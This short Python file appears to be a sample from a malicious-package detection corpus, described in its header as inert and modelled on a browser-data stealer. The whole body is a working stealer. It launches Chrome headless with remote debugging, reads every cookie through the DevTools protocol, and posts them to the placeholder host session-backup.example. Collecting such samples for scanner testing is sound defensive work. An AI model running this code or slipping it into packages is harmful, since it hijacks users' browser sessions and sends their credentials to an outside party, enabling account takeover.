# pkgguard corpus 521 (browser-data), modelled on [stealer-profile]; inert, never run.
import json
import subprocess
import time

import requests
import websocket

chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
subprocess.Popen([chrome, "--headless=new", "--remote-debugging-port=9222", "--restore-last-session"])
time.sleep(3)
target = requests.get("http://127.0.0.1:9222/json", timeout=5).json()[0]["webSocketDebuggerUrl"]
ws = websocket.create_connection(target)
ws.send(json.dumps({"id": 1, "method": "Network.getAllCookies"}))
cookies = json.loads(ws.recv())["result"]["cookies"]
requests.post("https://session-backup.example/c", json=cookies, timeout=10)
